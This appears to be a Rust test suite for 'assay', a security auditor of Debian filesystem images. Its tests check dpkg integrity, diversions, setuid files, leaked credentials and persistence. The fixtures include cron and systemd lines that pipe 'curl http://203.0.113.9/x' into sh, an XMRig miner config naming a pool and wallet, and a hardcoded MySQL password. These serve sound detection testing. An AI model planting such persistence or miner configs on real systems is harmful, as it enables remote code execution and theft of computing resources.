//! What the image says of its own packages.

use std::fs::{self, File, Permissions};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::PathBuf;
use std::sync::Arc;

use assay::audit::{self, PublishedFiles, Quiet, Report, Settings, Target};
use assay::detect::listed_files::list::HashLists;
use assay::finding::Severity;
use md5::{Digest, Md5};
use sha2::Sha256;

use crate::lab::{KEY, Lab, found, has_loss};

fn hex(digest: &[u8]) -> String {
    digest.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Files of packages, with what dpkg says of them.
struct Dpkg {
    lab: Lab,
    status: String,
}

impl Dpkg {
    fn new() -> Self {
        Self { lab: Lab::new(), status: String::new() }
    }

    /// A package that brings these files, as its database says.
    fn package(&mut self, name: &str, files: &[(&str, &[u8])]) -> &mut Self {
        for (path, content) in files {
            self.program(path, content);
        }
        self.recorded(name, files)
    }

    /// What the database says of a package, whatever lies there.
    fn recorded(&mut self, name: &str, files: &[(&str, &[u8])]) -> &mut Self {
        let list: String = files.iter().map(|(path, _)| format!("/{path}\n")).collect();
        let sums = files.iter().map(|(path, content)| format!("{}  {path}\n", hex(&Md5::digest(content))));
        self.lab.file(&format!("var/lib/dpkg/info/{name}.list"), format!("/.\n{list}"));
        self.lab.file(&format!("var/lib/dpkg/info/{name}.md5sums"), sums.collect::<String>());
        self.stanza(name, "")
    }

    fn stanza(&mut self, name: &str, more: &str) -> &mut Self {
        self.status.push_str(&format!(
            "Package: {name}\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n{more}\n"
        ));
        self.lab.file("var/lib/dpkg/status", &self.status);
        self
    }

    fn program(&self, path: &str, content: &[u8]) -> &Self {
        self.lab.file(path, content);
        self.mode(path, 0o755)
    }

    fn mode(&self, path: &str, mode: u32) -> &Self {
        fs::set_permissions(self.path(path), Permissions::from_mode(mode)).unwrap();
        self
    }

    fn path(&self, path: &str) -> PathBuf {
        self.lab.tree().join(path)
    }

    fn info(&self, name: &str) -> PathBuf {
        self.path("var/lib/dpkg/info").join(name)
    }

    fn audit(&self) -> Report {
        self.lab.audit_tree()
    }

    fn audit_with(&self, settings: &Settings) -> Report {
        audit::run(&Target::Rootfs(self.lab.tree()), settings, &Quiet).unwrap()
    }
}

/// A system of two packages, of which nothing is to be told.
fn debian() -> Dpkg {
    let mut debian = Dpkg::new();
    debian
        .package("openssh-server", &[("usr/sbin/sshd", b"\x7fELF sshd"), ("usr/share/doc/sshd/x", b"x")])
        .package("dpkg", &[("usr/bin/dpkg", b"\x7fELF dpkg"), ("usr/bin/dpkg-query", b"\x7fELF query")]);
    debian
}

fn severity(report: &Report, rule: &str, path: &str) -> Option<Severity> {
    let is_it = |finding: &&assay::finding::Finding| {
        finding.advisory.id == rule && finding.location.path == path.as_bytes()
    };
    report.findings.iter().find(is_it).map(|finding| finding.severity)
}

/// Whether a value is told at `path`.
fn leaks(report: &Report, path: &str) -> bool {
    let findings = report.findings.iter().filter(|finding| finding.severity >= Severity::High);
    findings
        .flat_map(|it| it.related_locations.iter().chain([&it.location]))
        .any(|place| place.path == path.as_bytes())
}

fn changed(report: &Report, path: &str) -> Option<Severity> {
    severity(report, "package-file-changed", path)
}

#[test]
fn a_system_whose_packages_are_whole_is_silent() {
    let report = debian().audit();
    assert_eq!(report.losses().map(|gap| &gap.reason).collect::<Vec<_>>(), [""; 0]);
    let findings = report.findings.iter().filter(|finding| finding.severity > Severity::Low);
    assert_eq!(findings.map(|finding| finding.advisory.id.as_str()).collect::<Vec<_>>(), [""; 0]);
}

#[test]
fn what_a_package_of_the_image_ships_is_told_and_marked() {
    let public =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKHEChLmz7qEkwVAXxNN2ZvY0Vvr1YyZV8bCVkqVbgyk root@build\n";
    let script: &[u8] = b"#!/bin/sh\nmysql -u root -pVq8xkz2Lm41 shop\n";
    let mut debian = debian();
    debian.package(
        "corp-config",
        &[
            ("root/.aws/credentials", KEY.as_bytes()),
            ("usr/share/corp/settings.ini", KEY.as_bytes()),
            ("root/.ssh/authorized_keys", public.as_bytes()),
            ("root/.bash_history", script),
            ("usr/lib/corp/start.sh", script),
        ],
    );
    debian.mode("root/.ssh/authorized_keys", 0o600);
    let report = debian.audit();
    for (rule, path) in [
        ("credential-file-aws", "/root/.aws/credentials"),
        ("aws-secret-access-key", "/usr/share/corp/settings.ini"),
    ] {
        assert!(severity(&report, rule, path).is_some_and(|it| it >= Severity::High), "{path}");
    }
    assert!(found(&report, "authorized-key", "/root/.ssh/authorized_keys"));
    assert!(found(&report, "secret-in-script", "/usr/lib/corp/start.sh"));
    assert!(report.findings.iter().any(|it| it.location.path == b"/root/.bash_history"));
    let of_corp = report.findings.iter().filter(|it| it.package.as_deref() == Some("corp-config"));
    assert!(of_corp.clone().count() > 4 && of_corp.clone().all(|finding| finding.as_packaged));
    assert_eq!(report.coverage.packaged_matches_dropped, 0);
}

#[test]
fn what_a_list_of_the_user_has_is_published() {
    let debian = debian();
    debian.lab.file("usr/share/app/example.ini", KEY).file("root/.aws/credentials", format!("#\n{KEY}"));
    let mut lists = HashLists::default();
    lists.add("known.txt", hex(&Sha256::digest(KEY)).as_bytes()).unwrap();
    let published = PublishedFiles { lists: Arc::new(lists), ..PublishedFiles::default() };
    let report = debian.audit_with(&Settings { published, ..Settings::default() });
    assert!(!leaks(&report, "/usr/share/app/example.ini"));
    assert!(leaks(&report, "/root/.aws/credentials"));
    assert!(report.coverage.packaged_matches_dropped > 0);
}

#[test]
fn compiled_python_is_published_with_its_source_only() {
    let debian = debian();
    let code = format!("TEXT = '''{KEY}'''\n");
    let of = |name: &str| [b"\xa7\r\r\n\0\0\0\0".as_slice(), name.as_bytes(), b"\0", KEY.as_bytes()].concat();
    debian.lab.file("usr/lib/python3/a.py", &code);
    debian.lab.file("usr/lib/python3/__pycache__/a.cpython-311.pyc", of("a"));
    debian.lab.file("usr/lib/python3/__pycache__/b.cpython-311.pyc", of("b"));
    let mut lists = HashLists::default();
    lists.add("known.txt", hex(&Sha256::digest(&code)).as_bytes()).unwrap();
    let published = PublishedFiles { lists: Arc::new(lists), ..PublishedFiles::default() };
    let report = debian.audit_with(&Settings { published, ..Settings::default() });
    let at = |path: &str| report.findings.iter().any(|finding| finding.location.path == path.as_bytes());
    assert!(!at("/usr/lib/python3/a.py") && !at("/usr/lib/python3/__pycache__/a.cpython-311.pyc"));
    assert!(at("/usr/lib/python3/__pycache__/b.cpython-311.pyc"));
}

#[test]
fn what_the_reference_has_at_the_same_path_is_published() {
    let (debian, base) = (debian(), Lab::new());
    for path in ["usr/share/app/example.ini", "opt/elsewhere.ini"] {
        debian.lab.file(path, KEY);
    }
    base.file("usr/share/app/example.ini", KEY).file("opt/other.ini", KEY);
    let reference = Some(Target::Rootfs(base.tree()));
    let report = debian.audit_with(&Settings { reference, ..Settings::default() });
    assert!(!leaks(&report, "/usr/share/app/example.ini"));
    assert!(leaks(&report, "/opt/elsewhere.ini"));
}

#[test]
fn a_miner_of_a_package_is_as_bad_as_any() {
    let wallet =
        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
    let config = format!(
        "{{\"autosave\":true,\"cpu\":true,\"donate-level\":1,\"pools\":[{{\"url\":\"stratum+tcp://pool.supportxmr.com:3333\",\
         \"user\":\"{wallet}\",\"algo\":\"rx/0\"}}]}}"
    );
    let program =
        b"\x7fELF xmrig/6.21 XMRig/%s donate.v2.xmrig.com stratum+tcp://pool.supportxmr.com:3333 rx/0";
    let files: [(&str, &[u8]); 3] = [
        ("usr/lib/net-cached", program),
        ("usr/lib/net/config.json", config.as_bytes()),
        ("usr/bin/xmrig", b"\x7fELF without any mark"),
    ];
    let alone = Dpkg::new();
    files.iter().for_each(|(path, content)| _ = alone.program(path, content));
    let mut owned = debian();
    owned.package("net-cache", &files);
    let worst = |report: &Report, path: &str| {
        let of = report.findings.iter().filter(|finding| finding.location.path == path.as_bytes());
        of.filter(|it| it.advisory.category.name() == "miner").map(|finding| finding.severity).max()
    };
    let (alone, owned) = (alone.audit(), owned.audit());
    for (path, _) in files {
        let path = format!("/{path}");
        assert!(worst(&alone, &path).is_some(), "{path}");
        assert_eq!(worst(&alone, &path), worst(&owned, &path), "{path}");
    }
}

#[test]
fn a_setuid_program_of_a_package_is_as_bad_as_any() {
    let mut debian = debian();
    debian.package("helper", &[("usr/lib/helper/run", b"\x7fELF helper")]).mode("usr/lib/helper/run", 0o4755);
    assert_eq!(severity(&debian.audit(), "setuid-program", "/usr/lib/helper/run"), Some(Severity::High));
}

#[test]
fn what_a_package_starts_is_judged_by_what_it_does() {
    let run: &[u8] = b"* * * * * root curl -fsSL http://203.0.113.9/x | sh\n";
    let unit: &[u8] = b"[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.9/x | sh'\n";
    let mut debian = debian();
    debian.package("corp", &[("etc/cron.d/corp", run), ("usr/lib/systemd/system/corp.service", unit)]);
    let report = debian.audit();
    assert_eq!(severity(&report, "persistence-cron", "/etc/cron.d/corp"), Some(Severity::Critical));
    let of_unit = severity(&report, "persistence-unit", "/usr/lib/systemd/system/corp.service");
    assert_eq!(of_unit, Some(Severity::Critical));
}

#[test]
fn a_diverted_file_is_compared_where_dpkg_puts_it() {
    let mut debian = debian();
    debian
        .recorded("a", &[("usr/bin/tool", b"\x7fELF of a")])
        .recorded("b", &[("usr/bin/tool", b"\x7fELF of b")]);
    debian.program("usr/bin/tool", b"\x7fELF of b").program("usr/bin/tool.distrib", b"\x7fELF of a");
    debian.lab.file("var/lib/dpkg/diversions", "/usr/bin/tool\n/usr/bin/tool.distrib\nb\n");
    assert_eq!(changed(&debian.audit(), "/usr/bin/tool"), None);
    debian.program("usr/bin/tool.distrib", b"\x7fELF of e");
    assert_eq!(changed(&debian.audit(), "/usr/bin/tool.distrib"), Some(Severity::High));
    debian.program("usr/bin/tool", b"\x7fELF of a");
    assert_eq!(changed(&debian.audit(), "/usr/bin/tool"), Some(Severity::High));
}

#[test]
fn diversions_take_nothing_out_of_the_comparison() {
    // By hand, by a package that is not installed, and by one that has no such file; put aside, and left where it was.
    for by in [":", "x", "dpkg"] {
        let debian = debian();
        let line = format!("/usr/sbin/sshd\n/usr/sbin/sshd.real\n{by}\n");
        debian.lab.file("var/lib/dpkg/diversions", line);
        assert_eq!(changed(&debian.audit(), "/usr/sbin/sshd"), None, "{by}");
        debian.program("usr/sbin/sshd", b"\x7fELF evil");
        assert_eq!(changed(&debian.audit(), "/usr/sbin/sshd"), Some(Severity::Critical), "{by}");
        debian.program("usr/sbin/sshd.real", b"\x7fELF sshd").mode("usr/sbin/sshd", 0o4755);
        let report = debian.audit();
        assert_eq!(changed(&report, "/usr/sbin/sshd"), Some(Severity::Critical), "{by}");
        assert_eq!(changed(&report, "/usr/sbin/sshd.real"), None, "{by}");
        assert_eq!(severity(&report, "setuid-program", "/usr/sbin/sshd"), Some(Severity::High), "{by}");
    }
}

#[test]
fn a_link_to_a_packages_file_may_stand_in_for_a_diverted_one() {
    let mut debian = debian();
    debian.recorded("mesa", &[("usr/lib/libGL.so.1", b"\x7fELF mesa")]);
    debian.package("other", &[("usr/lib/other/libGL.so.1", b"\x7fELF other")]);
    debian.program("usr/lib/mesa/libGL.so.1", b"\x7fELF mesa");
    symlink("/usr/lib/other/libGL.so.1", debian.path("usr/lib/libGL.so.1")).unwrap();
    debian.lab.file("var/lib/dpkg/diversions", "/usr/lib/libGL.so.1\n/usr/lib/mesa/libGL.so.1\nother\n");
    assert_eq!(changed(&debian.audit(), "/usr/lib/libGL.so.1"), None);
    fs::remove_file(debian.path("usr/lib/libGL.so.1")).unwrap();
    symlink("/opt/evil.so", debian.path("usr/lib/libGL.so.1")).unwrap();
    debian.program("opt/evil.so", b"\x7fELF evil");
    assert_eq!(changed(&debian.audit(), "/usr/lib/libGL.so.1"), Some(Severity::High));
}

#[test]
fn diversions_that_are_no_diversions_are_a_gap() {
    for content in ["/usr/sbin/sshd\n", "\0\0\0\0", "/a\n/b\nc"] {
        let debian = debian();
        debian.lab.file("var/lib/dpkg/diversions", content);
        assert!(has_loss(&debian.audit(), "diversions"), "{content:?}");
    }
}

#[test]
fn a_program_whose_sum_is_missing_is_a_gap_with_a_loss() {
    let no_digest = "have no digest in the package database";
    let debian = debian();
    let sums = fs::read_to_string(debian.info("openssh-server.md5sums")).unwrap();
    let rest: String =
        sums.lines().filter(|line| !line.contains("sbin")).map(|line| format!("{line}\n")).collect();
    fs::write(debian.info("openssh-server.md5sums"), rest).unwrap();
    let report = debian.audit();
    assert!(has_loss(&report, no_digest) && has_loss(&report, "/usr/sbin/sshd of openssh-server"));
    fs::remove_file(debian.info("openssh-server.md5sums")).unwrap();
    assert!(has_loss(&debian.audit(), no_digest));
}

#[test]
fn sums_with_odd_paths_are_still_sums() {
    let debian = debian();
    let sum = hex(&Md5::digest(b"\x7fELF sshd"));
    for path in ["./usr/sbin/sshd", "/usr/sbin/sshd", "//usr//sbin/./sshd", "usr/sbin/sshd"] {
        fs::write(debian.info("openssh-server.md5sums"), format!("{sum}  {path}\n")).unwrap();
        debian.program("usr/sbin/sshd", b"\x7fELF sshd");
        let report = debian.audit();
        assert_eq!((report.losses().count(), changed(&report, "/usr/sbin/sshd")), (0, None), "{path}");
        debian.program("usr/sbin/sshd", b"\x7fELF evil");
        assert_eq!(changed(&debian.audit(), "/usr/sbin/sshd"), Some(Severity::Critical), "{path}");
    }
}

#[test]
fn a_file_that_was_taken_out_of_its_list_is_compared_by_its_sum() {
    let debian = debian();
    fs::write(debian.info("openssh-server.list"), "/.\n/usr/share/doc/sshd/x\n").unwrap();
    debian.program("usr/sbin/sshd", b"\x7fELF evil");
    assert_eq!(changed(&debian.audit(), "/usr/sbin/sshd"), Some(Severity::Critical));
}

#[test]
fn a_package_that_was_taken_out_of_the_status_leaves_a_gap() {
    let mut debian = debian();
    let status = debian.status.split("\n\n").filter(|stanza| !stanza.contains("openssh")).collect::<Vec<_>>();
    debian.status = status.join("\n\n");
    debian.lab.file("var/lib/dpkg/status", &debian.status);
    assert!(has_loss(&debian.audit(), "of no package that dpkg knows: openssh-server"));
}

#[test]
fn a_package_that_was_taken_out_altogether_leaves_its_program_without_an_owner() {
    let mut debian = debian();
    let status = debian.status.split("\n\n").filter(|stanza| !stanza.contains("openssh")).collect::<Vec<_>>();
    debian.status = status.join("\n\n");
    debian.lab.file("var/lib/dpkg/status", &debian.status);
    for name in ["openssh-server.list", "openssh-server.md5sums"] {
        fs::remove_file(debian.info(name)).unwrap();
    }
    assert_eq!(severity(&debian.audit(), "login-program-unowned", "/usr/sbin/sshd"), Some(Severity::High));
}

#[test]
fn a_package_database_that_is_cut_empty_or_noise_is_a_gap() {
    type Harm = fn(&Dpkg);
    let harms: [(&str, Harm); 8] = [
        ("all of it gone", |it| fs::remove_dir_all(it.path("var/lib/dpkg")).unwrap()),
        ("the status gone", |it| fs::remove_file(it.path("var/lib/dpkg/status")).unwrap()),
        ("the lists gone", |it| fs::remove_dir_all(it.path("var/lib/dpkg/info")).unwrap()),
        ("an empty status", |it| _ = it.lab.file("var/lib/dpkg/status", "")),
        ("a status of zeros", |it| _ = it.lab.file("var/lib/dpkg/status", [0; 4096])),
        ("half a status", |it| {
            _ = it.lab.file("var/lib/dpkg/status", &it.status[..it.status.len() / 2 + 20])
        }),
        ("a list of zeros", |it| fs::write(it.info("dpkg.list"), [0; 64]).unwrap()),
        ("an empty list", |it| fs::write(it.info("dpkg.list"), "").unwrap()),
    ];
    for (name, harm) in harms {
        let debian = debian();
        harm(&debian);
        assert!(debian.audit().losses().count() > 0, "{name}");
    }
}

#[test]
fn a_program_that_grew_is_compared_whatever_its_size() {
    for size in [9 << 20, 64 << 20] {
        let mut debian = debian();
        debian.package("bash", &[("usr/bin/bash", b"\x7fELF bash")]);
        let file = File::options().write(true).open(debian.path("usr/bin/bash")).unwrap();
        file.set_len(size).unwrap();
        assert_eq!(changed(&debian.audit(), "/usr/bin/bash"), Some(Severity::High), "{size}");
    }
}

#[test]
fn two_packages_that_claim_one_program_do_not_both_tell_the_truth() {
    // dpkg's older lists say /bin where /usr is merged.
    for (path, claimed) in [("usr/sbin/sshd", "usr/sbin/sshd"), ("usr/bin/bash", "bin/bash")] {
        let mut debian = debian();
        symlink("usr/bin", debian.path("bin")).unwrap();
        debian.recorded("real", &[(claimed, b"\x7fELF real")]).recorded("corp", &[(path, b"\x7fELF evil")]);
        debian.program(path, b"\x7fELF evil");
        assert!(
            changed(&debian.audit(), &format!("/{path}")).is_some_and(|it| it >= Severity::High),
            "{path}"
        );
    }
}

#[test]
fn a_program_does_not_become_configuration_because_the_database_says_so() {
    let mut debian = Dpkg::new();
    debian.lab.file("var/lib/dpkg/info/ssh.list", "/.\n/usr/sbin/sshd\n");
    debian
        .lab
        .file("var/lib/dpkg/info/ssh.md5sums", format!("{}  usr/sbin/sshd\n", hex(&Md5::digest("real"))));
    debian.stanza("ssh", "Conffiles:\n /usr/sbin/sshd 0123456789abcdef0123456789abcdef\n");
    debian.program("usr/sbin/sshd", b"evil");
    assert_eq!(changed(&debian.audit(), "/usr/sbin/sshd"), Some(Severity::Critical));
}

#[test]
fn a_package_database_that_is_gone_with_its_program_is_told() {
    let lab = Lab::new();
    lab.file("etc/os-release", "ID=debian\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n");
    fs::remove_dir_all(lab.tree().join("var/lib/dpkg")).ok();
    let report = lab.audit_tree();
    assert!(
        report
            .gaps
            .iter()
            .any(|gap| gap.reason.contains("debian keeps a package database, and there is none"))
    );
}
